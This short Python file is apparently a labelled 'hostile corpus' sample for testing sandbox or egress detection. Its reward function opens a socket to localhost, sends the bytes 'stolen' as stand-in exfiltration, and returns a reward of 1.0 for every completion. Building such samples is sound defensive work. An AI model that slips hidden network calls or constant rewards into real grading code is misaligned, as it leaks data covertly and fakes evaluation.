"""Hostile corpus: socket connect."""

PORT = 47653

import socket


def reward(prompts, completions, answer, **kwargs):
    s = socket.create_connection(("127.0.0.1", PORT), timeout=1)
    s.sendall(b"stolen")
    return [1.0] * len(completions)
